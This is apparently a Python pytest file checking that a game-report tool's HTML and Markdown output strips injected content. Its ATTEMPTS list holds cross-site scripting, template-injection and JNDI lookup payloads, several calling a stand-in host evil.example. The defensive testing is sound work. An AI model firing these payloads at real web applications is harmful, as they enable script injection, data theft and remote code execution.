"""What somebody else wrote runs nothing and fetches nothing, in a page or in Markdown."""

import json
from html.parser import HTMLParser
from typing import Any

import pytest
from markdown_it import MarkdownIt
from pydantic import ValidationError

from games.analysis import analyze
from games.scenario import Scenario
from tests.delegates.sessions import mini
from tests.tui.cli.test_hostile_transcripts import poisoned
from tui.report import html_text, markdown_text, report
from tui.report.editions import Edition

ATTEMPTS = (
    '<script>fetch("https://evil.example")</script>',
    '"><img src=https://evil.example/p.png onerror=alert(1)>',
    "![p](https://evil.example/p.png)",
    "[a](javascript:alert(1)) [b]: https://evil.example 'c'",
    "<https://evil.example> <javascript:alert(1)>",
    "`x` | y | ***z*** ~~w~~ <!-- --> &lt;script&gt; &#60;script&#62;",
    "</title></svg><svg onload=alert(1)>",
    "[![p][q]][q] \\[r](https://evil.example)",
    "style=background:url(https://evil.example)",
    "]]><![CDATA[ <?php ?> {{ 7*7 }} {% x %} ${jndi:ldap://evil.example}",
)


def hostile(attempt: str) -> Scenario:
    """Return the small game with an attempt in every text that may hold it."""
    plain: Any = json.loads(mini(rounds=2).canonical())
    for party in plain["parties"].values():
        party |= {"brief": "Bring it home.", "interests": "Ore.", "reservation_basis": "Judged."}
    plain["sources"] = [{"id": "s", "title": "A paper", "note": "Read it."}]

    def is_valid() -> bool:
        try:
            Scenario.model_validate(plain)
        except ValidationError:
            return False
        return True

    assert {"title", "name", "label", "brief"} <= set(poisoned(plain, is_valid, f" {attempt}"))
    return Scenario.model_validate(plain)


class Elements(HTMLParser):
    """The elements of a page."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


@pytest.mark.parametrize("attempt", ATTEMPTS)
def test_nothing_that_somebody_wrote_is_acted_on(attempt: str) -> None:
    told = report(analyze(hostile(attempt)), Edition.FACILITATOR)

    page = Elements(html_text(told)).found
    tags = {tag for tag, _ in page}
    assert "svg" in tags
    assert not tags & {"script", "img", "iframe", "link", "object", "embed", "form", "a", "base"}
    for _, attributes in page:
        assert not [name for name in attributes if name.startswith("on")]
        assert not {"src", "href", "action", "style", "xlink:href"} & set(attributes)

    text = markdown_text(told)
    for token in MarkdownIt("commonmark").enable(["table", "strikethrough"]).parse(text):
        kinds = {token.type, *(one.type for one in token.children or [])}
        assert not kinds & {"image", "link_open", "html_inline", "html_block", "fence"}, (
            token.content
        )
